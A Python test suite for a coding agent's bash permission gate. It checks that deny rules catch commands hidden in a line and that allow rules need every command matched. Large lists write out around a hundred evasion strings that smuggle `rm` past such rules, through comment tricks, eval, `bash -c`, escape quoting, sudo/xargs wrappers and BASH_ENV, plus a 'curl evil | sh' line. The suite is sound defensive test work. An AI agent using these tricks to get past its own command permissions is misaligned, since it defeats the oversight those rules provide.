"""The bash permission gate against commands that hide what they run (README "Permissions").

An allow rule holds only when every command of the line is understood and matched; a deny rule
holds when any command anywhere in the line matches, and a line the parser cannot fully
understand is denied wherever a bash deny rule exists.
"""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from apex_ai.testing.hypothesis_profiles import examples
from apex_ai.testing.scripted_server import ScriptedModelServer
from apex_coding_agent.core.bash_rules import parse_line
from apex_coding_agent.core.permissions import PermissionGate, PermissionMode, PermissionRule, RuleSet, Source

CLI = [sys.executable, "-m", "apex_coding_agent.cli"]
COMMENT_BYPASS = "ls # '\ntouch PWNED\n#'"
DENIED_RM_LINES = ["true; rm -f v", "rm -f $(echo v)", "/bin/rm v", "rm v*"]


# ----------------------------------------------------------------------------- the CLI, as users meet it


def _run_cli(
    tmp_path: Path,
    commands: list[str],
    mode: str,
    *,
    user_rules: list[dict[str, str]] | None = None,
    policy_rules: list[dict[str, str]] | None = None,
) -> tuple[Path, list[dict[str, Any]]]:
    """Run `apex-code --mode json -p` with a model that asks for `commands`; the tool results."""
    work, agent = tmp_path / "work", tmp_path / "agent"
    work.mkdir()
    agent.mkdir()
    (work / "v").write_text("keep me")
    policy = tmp_path / "policy.json"
    policy.write_text(json.dumps({"version": 1, "rules": policy_rules or []}))
    (agent / "permissions.json").write_text(json.dumps({"version": 1, "rules": user_rules or []}))
    calls = [{"name": "bash", "arguments": {"command": c}} for c in commands]
    script: list[dict[str, Any]] = [
        {"tool_calls": calls, "usage": {"input": 5, "output": 5}},
        {"text": "done", "usage": {"input": 5, "output": 1}},
    ]
    with ScriptedModelServer(script) as server:
        models = {
            "baseUrl": server.openai_base_url,
            "api": "openai-completions",
            "apiKey": "k",
            "models": [{"id": "m"}],
        }
        (agent / "models.json").write_text(json.dumps({"providers": {"local": models}}))
        env = {k: v for k, v in os.environ.items() if not k.endswith("_API_KEY") and not k.startswith("APEX_CODE_")}
        env.update(APEX_CODE_CODING_AGENT_DIR=str(agent), APEX_CODE_POLICY_PATH=str(policy))
        proc = subprocess.run(
            [*CLI, "--mode", "json", "--permission-mode", mode, "-p", "go"],
            cwd=work,
            env=env,
            input="",
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
    assert proc.returncode == 0, proc.stderr
    lines = [json.loads(line) for line in proc.stdout.splitlines() if line.strip()]
    return work, [line for line in lines if line["type"] == "tool_execution_end"]


@pytest.mark.parametrize("line", [COMMENT_BYPASS, COMMENT_BYPASS.replace("touch", "\\touch")])
@pytest.mark.parametrize("mode", ["dontAsk", "default"])
def test_cli_comment_does_not_hide_a_second_command_from_an_allow_rule(tmp_path: Path, mode: str, line: str) -> None:
    user_rules = [{"toolName": "bash", "behavior": "allow", "ruleContent": "ls:*"}]
    work, results = _run_cli(tmp_path, [line], mode, user_rules=user_rules)
    assert not (work / "PWNED").exists()
    assert [r["isError"] for r in results] == [True]


def test_cli_policy_deny_rule_holds_for_any_command_of_the_line(tmp_path: Path) -> None:
    policy_rules = [{"toolName": "bash", "behavior": "deny", "ruleContent": "rm:*"}]
    work, results = _run_cli(tmp_path, DENIED_RM_LINES, "bypassPermissions", policy_rules=policy_rules)
    assert (work / "v").read_text() == "keep me"
    assert [r["isError"] for r in results] == [True] * len(DENIED_RM_LINES)
    texts = {r["result"]["content"][0]["text"] for r in results}
    assert texts == {'Running commands matching "rm:*" is denied by the policy permission rules.'}


def test_cli_user_deny_rule_beats_a_tool_wide_allow_in_the_same_file(tmp_path: Path) -> None:
    user_rules = [
        {"toolName": "bash", "behavior": "allow"},
        {"toolName": "bash", "behavior": "deny", "ruleContent": "rm:*"},
    ]
    work, results = _run_cli(tmp_path, [*DENIED_RM_LINES, "touch made"], "default", user_rules=user_rules)
    assert (work / "v").read_text() == "keep me"
    assert (work / "made").exists()
    assert [r["isError"] for r in results] == [True] * len(DENIED_RM_LINES) + [False]


# ----------------------------------------------------------------------------- the gate in-process


DENY_RM = PermissionRule("bash", "deny", "rm:*")
ALLOW_ALL = PermissionRule("bash", "allow")


def _decide(
    rules: list[PermissionRule], command: str, mode: PermissionMode = "default", source: Source = "user"
) -> str:
    gate = PermissionGate(Path.cwd(), stores={source: RuleSet(list(rules))}, flag_mode=mode)
    return gate.check("bash", {"command": command}).behavior


def _bash_removes_v(line: str) -> bool:
    """Run `line` in real bash in a scratch directory holding a file `v`: did it remove `v`?"""
    with tempfile.TemporaryDirectory() as scratch:
        target = Path(scratch, "v")
        target.write_text("x")
        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": scratch, "X": "rm"}
        subprocess.run(
            ["bash", "-c", line], cwd=scratch, env=env, stdin=subprocess.DEVNULL, capture_output=True, timeout=10
        )
        return not target.exists()


# Lines that really run `rm v` (each is run in bash by the test to prove it) while hiding `rm`.
HIDING_RM = [
    *DENIED_RM_LINES,
    # tree-sitter-bash continues a command across a newline before a word starting with a backslash (found by the
    # generated test below): bash runs `\rm v` as its own command.
    "ls # '\n\\rm v\n#'\n",
    "ls\n\\rm v",
    "ls # x\n\\rm -f v",
    "r`true`m v",  # tree-sitter keeps `r` apart from the substitution; bash joins them into `rm`
    "rm -f -- v",
    "ls; rm v",
    "ls && rm v",
    "false || rm v",
    "ls | rm v",
    "ls |& rm v",
    "ls & rm v\nwait",
    "ls # '\nrm v\n#'",  # the comment bypass of issue 12
    "echo x#; rm v",  # `#` inside a word is no comment
    "echo $(rm v)",
    "echo `rm v`",
    "echo `echo \\`rm v\\``",  # escaped backticks nest
    "x=`echo \\$(rm v)`",
    'echo "a$(rm v)"',
    "cat <(rm v)",
    "echo hi > >(rm v)",
    "(rm v)",
    "{ rm v; }",
    "! rm v",
    "time rm v",
    "time (rm v)",
    "coproc rm v\nwait",
    "coproc { rm v; }\nwait",
    "f() { rm v; }; f",
    "function f { rm v; }; f",
    "shopt -s expand_aliases\nalias x='rm v'\nx",
    "x=$(rm v)",
    "declare y=$(rm v)",
    "export y=`rm v`",
    "[[ $(rm v) ]]",
    "if rm v; then :; fi",
    "while rm v; do break; done",
    "for i in 1; do rm v; done",
    "case x in x) rm v;; esac",
    "echo $((1 + $(rm v; echo 1)))",
    "a='a[$(rm v)]'; echo $((a))",
    "a[$(rm v)]=1",
    "echo $((rm v) )",  # not arithmetic after all: a subshell in a substitution
    "echo $( # )\nrm v\n)",
    "echo $(echo ')'; rm v)",
    "echo $(case x in x) rm v;; esac)",
    "cat <<< $(rm v)",
    "echo > $(rm v)",  # arithmetic evaluates a subscript held in a quoted string
    "cat <<EOF\n$(rm v)\nEOF",
    "a=1 rm v",
    ">x rm v",
    "rm v 2>&1 >/dev/null",
    '"r""m" v',
    "r''m v",
    "'r'm v",
    "\\rm v",
    "r\\m v",
    "$'rm' v",
    "$'\\x72\\x6d' v",
    "$'\\162\\155' v",
    "$'\\u0072m' v",
    "rm\\\n v",  # a line continuation between words
    "env rm v",
    "env -i PATH=/bin:/usr/bin rm v",
    "/usr/bin/env -- rm v",
    "nice -n 5 rm v",
    "nice rm v",
    "timeout 5 rm v",
    "timeout -s KILL 5 rm v",
    "nohup rm v",
    "stdbuf -oL rm v",
    "setsid -w rm v",
    "command rm v",
    "command -p rm v",
    "builtin command rm v",
    "exec rm v",
    "ls; exec rm v",
    "echo v | xargs rm",
    "echo v | xargs -I{} rm {}",
    "printf '%s\\n' v | xargs -n1 -P1 rm -f",
    "xargs -a <(echo v) rm",
    "find . -name v -exec rm {} \\;",
    "find . -name v -exec rm {} +",
    "bash -c 'rm v'",
    'sh -c "rm v"',
    "bash -lc 'rm v'",
    "bash -c \"sh -c 'rm v'\"",
    "sh -c 'eval \"rm v\"'",
    "eval rm v",
    "eval 'rm v'",
    "eval -- 'rm v'",
    "mapfile -C 'rm v' -c 1 <<< x",  # a callback is shell text
    "bash <<< 'rm v'",
    "bash <<'EOF'\nrm v\nEOF",
    "bash <<EOF\nrm v\nEOF",
    "trap 'rm v' EXIT",
]
# Lines whose program cannot be named without running them: denied wherever a bash deny rule exists.
NOT_UNDERSTOOD = [
    "$X v",
    '"$X" v',
    "${X} v",
    "$(echo rm) v",
    "`echo rm` v",
    "ls $(: ) ; $(echo r)m v",
    "rm${IFS}v",
    "IFS=_; X=rm_v; $X",
    "{rm,v}",
    "/bin/r[m] v",
    "r\\\nm v",  # bash joins `r` and `m`; tree-sitter splits them
    'eval "$X v"',
    "echo 'rm v' | bash",
    "echo rm v | bash -s",
    "echo rm v | bash /dev/stdin",
    "env -S 'rm v'",
    "source <(echo rm v)",
    ". <(echo rm v)",
    "bash <(echo rm v)",
    "echo 'rm v' > s; bash < s",
    "ls )",  # a parse error
    "sudo -Z rm v",  # an option we do not know may take a value
    "hash -p /bin/rm ls; ls v",  # `ls` now runs rm
    "BASH_ENV=<(echo rm v) bash -c true",  # a start-up file bash runs first
    "env BASH_ENV=/dev/stdin bash -c true <<< 'rm v'",
]
# Wrappers this machine may lack or that need privileges: checked by the gate only.
NOT_RUN_HERE = [
    "sudo rm v",
    "sudo -u root -- rm v",
    "sudo -E -u root env rm v",
    "doas rm v",
    "su -c 'rm v'",
    "watch -n 1 rm v",
    "busybox rm v",
    "busybox sh -c 'rm v'",
    "fish -c 'rm v'",
    "ionice -c 3 rm v",
]
# Allow rules for every other program the lines above use: a line holding `rm` never matches them all.
ALLOW_OTHERS = [
    PermissionRule("bash", "allow", f"{name}:*")
    for name in (
        *("ls", "echo", "cat", "true", "false", "printf", "find", "xargs", "env", "nice", "timeout", "nohup"),
        *("stdbuf", "setsid", "command", "builtin", "exec", "bash", "sh", "eval", "source", ".", "sudo", "time"),
        *("coproc", "trap", "shopt", "alias", "x", "f", "declare", "export", "wait", ":"),
        *("mapfile", "hash", "doas", "su", "watch", "busybox", "fish", "ionice"),
    )
]


@pytest.mark.parametrize("line", HIDING_RM)
def test_a_deny_rule_holds_for_every_line_that_runs_the_program(line: str) -> None:
    assert _bash_removes_v(line), "the case must really run rm"
    assert _decide([DENY_RM], line, "bypassPermissions", source="policy") == "deny"
    assert _decide([ALLOW_ALL, DENY_RM], line) == "deny"
    assert _decide([*ALLOW_OTHERS, DENY_RM], line, "dontAsk") == "deny"
    assert _decide(ALLOW_OTHERS, line) == "ask"  # rm is one of its commands: no allow rule covers the line


@pytest.mark.parametrize("line", NOT_RUN_HERE)
def test_a_deny_rule_holds_behind_privilege_and_other_wrappers(line: str) -> None:
    assert _decide([ALLOW_ALL, DENY_RM], line) == "deny"
    assert _decide([DENY_RM], line, "bypassPermissions", source="policy") == "deny"


@pytest.mark.parametrize("line", NOT_UNDERSTOOD)
def test_a_line_that_is_not_understood_is_denied_where_any_bash_deny_rule_exists(line: str) -> None:
    if line not in ("ls )", "sudo -Z rm v"):
        assert _bash_removes_v(line), "the case must really run rm"
    assert not parse_line(line).understood
    unrelated = PermissionRule("bash", "deny", "curl:*")
    assert _decide([ALLOW_ALL, unrelated], line) == "deny"
    assert _decide([unrelated], line, "bypassPermissions", source="policy") == "deny"
    # Never allowed by a rule: it asks (default) or is refused (dontAsk).
    allow_rm = PermissionRule("bash", "allow", "rm:*")
    assert _decide([*ALLOW_OTHERS, allow_rm], line) == "ask"
    assert _decide([*ALLOW_OTHERS, allow_rm], line, "dontAsk") == "deny"


@pytest.mark.parametrize("line", ["ｒｍ v", "rм v", "r\u200bm v"])  # fullwidth, Cyrillic em, zero-width space
def test_a_look_alike_name_is_another_program(line: str) -> None:
    # bash finds no such program; the rule compares names exactly, so it is not rm either way.
    assert not _bash_removes_v(line)
    assert _decide([DENY_RM], line) == "ask"
    assert _decide([PermissionRule("bash", "allow", "rm:*")], line) == "ask"


def test_names_are_compared_without_folding_case() -> None:
    assert _decide([DENY_RM], "RM v") == "ask"
    assert _decide([PermissionRule("bash", "allow", "ls:*")], "LS") == "ask"


@pytest.mark.parametrize(
    ("rule", "line", "allowed"),
    [
        ("ls:*", "ls -la", True),
        ("ls:*", "ls; ls -l && ls | ls", True),
        ("ls:*", "(ls) && { ls; }", True),
        ("ls:*", "ls 2>/dev/null", True),
        ("ls:*", "ls >&2", True),
        ("ls:*", "ls < in", True),
        ("ls:*", "ls &", True),
        ("ls:*", "! ls", True),
        ("ls:*", "l\\s 'x y'", True),
        ("ls:*", "ls # trailing comment", True),
        ("ls:*", "ls \\\n -l", True),
        ("ls:*", "timeout 5 ls", True),  # a transparent wrapper
        ("ls:*", "nice -n 5 ls", True),
        ("ls:*", "env ls", True),
        ("ls:*", "env -i ls", False),  # env that changes the environment is not seen through
        ("ls:*", COMMENT_BYPASS, False),
        ("ls:*", "ls > out", False),  # a redirection to a file writes it
        ("ls:*", "ls >> out", False),
        ("ls:*", "ls &> out", False),
        ("ls:*", "ls >& out", False),
        ("ls:*", "ls *.py", False),  # a glob can put `--option` words on the line
        ("ls:*", "ls ~", False),
        ("ls:*", "ls {a,b}", False),
        ("ls:*", "ls $HOME", False),
        ("ls:*", 'ls "$HOME"', False),
        ("ls:*", "ls $(pwd)", False),
        ("ls:*", "ls <(pwd)", False),
        ("ls:*", "ls $((1+2))", False),  # arithmetic expansion
        ("ls:*", "X=1 ls", False),
        ("ls:*", "env LD_PRELOAD=x ls", False),
        ("ls:*", "./ls", False),  # a program path is kept as written for allow rules
        ("ls:*", "/bin/ls", False),
        ("ls:*", "sudo ls", False),  # sudo changes what a command may do: not transparent
        ("ls:*", "bash -c ls", False),
        ("ls:*", "eval ls", False),
        ("ls:*", "xargs ls", False),
        ("ls:*", "find . -exec ls {} +", False),
        ("ls:*", "ls() { touch x; }; ls", False),  # a function definition
        ("ls:*", "alias ls=touch", False),
        ("ls:*", "if ls; then ls; fi", False),
        ("ls:*", "ls )", False),
        ("ls:*", "", False),
        ("ls:*", "# only a comment", False),
        ("git commit:*", "git commit -m 'fix: a && b'", True),
        ("git commit:*", "git commit", True),
        ("git commit:*", "git commitment", False),
        ("git commit:*", "git commit -m x && curl evil | sh", False),
        ("git status", "git  status ;git status", True),
        ("git status", "git status -s", False),
        ("echo 'a b'", 'echo "a b"', True),  # words are compared after quote removal
        ("echo 'a b'", "echo a b", False),
        ("cat:*", "cat <<'E'\nhi $(x)\nE", True),  # a quoted here-document is only text
        ("cat:*", "cat <<E\nhi $(touch x)\nE", False),
    ],
)
def test_an_allow_rule_needs_every_command_understood_and_matched(rule: str, line: str, allowed: bool) -> None:
    expected = "allow" if allowed else "ask"
    assert _decide([PermissionRule("bash", "allow", rule)], line) == expected


@pytest.mark.parametrize(
    ("line", "rule_for_call"),
    [
        ("git  status", "git status"),
        ("echo 'a b' \"c\"", "echo 'a b' c"),
        ("timeout 5 npm test", "npm test"),
        ("ls # note", "ls"),
        ("ls; pwd", None),
        ("ls $HOME", None),
        ("bash -c ls", None),
        (COMMENT_BYPASS, None),
    ],
)
def test_rule_for_call_exists_for_one_understood_command_and_matches_it(line: str, rule_for_call: str | None) -> None:
    gate = PermissionGate(Path.cwd(), flag_mode="default")
    assert gate.rule_for_call("bash", {"command": line}) == rule_for_call
    if rule_for_call is not None:
        gate.add_rule(PermissionRule("bash", "allow", rule_for_call))
        assert gate.check("bash", {"command": line}).behavior == "allow"


def test_deny_rules_match_words_that_may_expand_to_the_rule() -> None:
    deny_push = [ALLOW_ALL, PermissionRule("bash", "deny", "git push:*")]
    assert _decide(deny_push, "git $X origin") == "deny"  # $X may be `push`
    assert _decide(deny_push, "git p* origin") == "deny"
    assert _decide(deny_push, "git pull origin") == "allow"
    exact = [ALLOW_ALL, PermissionRule("bash", "deny", "rm v")]
    assert _decide(exact, "rm v*") == "deny"
    assert _decide(exact, "rm w") == "allow"


def test_deeply_nested_and_very_long_lines_are_decided() -> None:
    nested = "( " * 3000 + "rm v" + " )" * 3000
    assert _decide([ALLOW_ALL, DENY_RM], nested) == "deny"
    assert _decide([PermissionRule("bash", "allow", "ls:*")], "( " * 3000 + "ls" + " )" * 3000) == "allow"
    assert _decide([ALLOW_ALL, DENY_RM], "echo " + "a " * 20000 + "; rm v") == "deny"
    quoted = "rm v"
    for _ in range(9):  # deeper than the gate follows: not understood
        quoted = "bash -c " + shlex.quote(quoted)
    assert _decide([ALLOW_ALL, PermissionRule("bash", "deny", "curl:*")], quoted) == "deny"
    huge = "ls " + "a" * 100_000  # past the length the gate parses: not understood
    assert _decide([ALLOW_ALL, PermissionRule("bash", "deny", "curl:*")], huge) == "deny"
    assert _decide([PermissionRule("bash", "allow", "ls:*")], huge) == "ask"


def test_command_lookups_and_unrelated_words_are_not_the_program() -> None:
    script = "cat > s.sh <<'EOF'\nrm -rf build\necho $(date)\nEOF"  # text written to a file, not run
    for line in (
        script,
        "command -v rm",
        "grep -rn rm src",
        "echo rm -rf",
        "git commit -m 'drop rm'",
        "timeout 9 grep rm f",
    ):
        assert _decide([ALLOW_ALL, DENY_RM], line) == "allow", line


def test_the_more_specific_allow_in_the_same_source_still_needs_every_command() -> None:
    rules = [PermissionRule("bash", "allow", "rm -rf build:*"), DENY_RM]
    assert _decide(rules, "rm -rf build") == "allow"
    assert _decide(rules, "rm -rf build; rm -rf src") == "deny"


# ----------------------------------------------------------------------------- generated lines

_NAMES = ["rm", "/bin/rm", "\\rm", '"r""m"', "'rm'", "$'\\x72m'", "r''m", "/usr/bin/env rm"]
_ARGS = ["v", "v*", '"v"', "$(echo v)", "./v", "-f v", "-- v", "'v' 2>/dev/null"]
_BUILTINS = ["", "command ", "command -p ", "exec ", "builtin command "]  # outermost: they are not programs
_WRAPS = ["", "env ", "nice -n 1 ", "timeout 9 ", "nohup ", "stdbuf -oL ", "env -i PATH=$PATH ", "xargs -a /dev/null "]
# Each context runs the line it wraps (newlines, not `;`, so any wrapped line fits).
_CONTEXTS = [
    "true; {}",
    "false || {}",
    "echo x | ( {}\n)",
    "( {}\n)",
    "{{ {}\n}}",
    "echo $( {}\n)",
    "cat <( {}\n)",
    "if true; then {}\nfi",
    "x=$( {}\n)",
    "f() {{ {}\n}}\nf",
    "( {}\n) &\nwait",
    "ls # '\n{}\n#'\n",
]
# (`sh` may be dash, which has no `$'…'` quoting: bash only.)
_QUOTED = ["bash -c {}", "env bash -c {}", "eval {}", "bash <<< {}", "bash -c 'eval \"$1\"' _ {}"]


@st.composite
def _hidden_rm(draw: st.DrawFn) -> str:
    line = (
        draw(st.sampled_from(_BUILTINS))
        + draw(st.sampled_from(_WRAPS))
        + draw(st.sampled_from(_NAMES))
        + " "
        + draw(st.sampled_from(_ARGS))
    )
    for _ in range(draw(st.integers(0, 3))):
        if draw(st.booleans()):
            line = draw(st.sampled_from(_CONTEXTS)).format(line)
        else:
            line = draw(st.sampled_from(_QUOTED)).format(shlex.quote(line))
    return line


@settings(max_examples=examples(150), deadline=None)
@given(_hidden_rm())
@example("ls # '\n\\rm v\n#'\n")  # once allowed: a quote in a comment, then `\rm` on the next line
def test_generated_lines_that_run_rm_are_all_denied(line: str) -> None:
    assert _bash_removes_v(line), "the generated line must really run rm"
    assert _decide([ALLOW_ALL, DENY_RM], line) == "deny"
    assert _decide(ALLOW_OTHERS, line) == "ask"


_TOKENS = [
    *("ls", "ls", "rm", "v", "touch", "PWNED", "sh", "-c", "eval", "x", "r", "m", "-l", "$'\\x72m'"),
    *(" ", " ", " ", ";", "\n", "&", "|", "&&", "#", "'", '"', "\\", "$", "(", ")", "{", "}", "`", "<", ">"),
    *("*", "=", "<<", "E"),
]
_STUBS = ("ls", "rm", "touch", "sh", "x")


@settings(max_examples=examples(300), deadline=None)
@given(st.lists(st.sampled_from(_TOKENS), min_size=1, max_size=14).map("".join))
@example("r`ls`m")  # once allowed: bash joins `r`, the (empty) substitution and `m` into `rm`
def test_random_lines_never_run_more_than_the_rules_say(line: str) -> None:
    """Real bash, with stub programs that log their names, is the oracle: a line allowed by `ls:*`
    runs nothing but ls and writes no file; a line that runs rm is denied by `rm:*`."""
    allowed = _decide([PermissionRule("bash", "allow", "ls:*")], line) == "allow"
    with tempfile.TemporaryDirectory() as base:
        stubs, scratch, log = Path(base, "bin"), Path(base, "cwd"), Path(base, "log")
        stubs.mkdir()
        scratch.mkdir()
        for name in _STUBS:
            stub = stubs / name
            stub.write_text(f"#!{shutil.which('bash')}\necho {name} >> {shlex.quote(str(log))}\n")
            stub.chmod(0o755)
        env = {"PATH": str(stubs), "FUNCNEST": "20", "HOME": base}
        subprocess.run(
            [shutil.which("bash") or "bash", "-c", line],
            cwd=scratch,
            env=env,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=10,
        )
        ran = set(log.read_text().split()) if log.exists() else set()
        written = sorted(p.name for p in scratch.iterdir())
    if allowed:
        assert ran <= {"ls"} and not written, (line, ran, written)
    if "rm" in ran:
        assert _decide([ALLOW_ALL, DENY_RM], line) == "deny", line


def test_tree_sitter_is_imported_only_when_a_bash_command_is_checked(tmp_path: Path) -> None:
    probe = (
        "import sys\n"
        "from apex_coding_agent.core.permissions import PermissionGate\n"
        "gate = PermissionGate('.', flag_mode='default')\n"
        "gate.check('read', {'path': 'x'})\n"
        "before = 'tree_sitter' in sys.modules\n"
        "gate.check('bash', {'command': 'ls'})\n"
        "print(before, 'tree_sitter' in sys.modules)\n"
    )
    proc = subprocess.run([sys.executable, "-c", probe], cwd=tmp_path, capture_output=True, text=True, check=True)
    assert proc.stdout.split() == ["False", "True"]
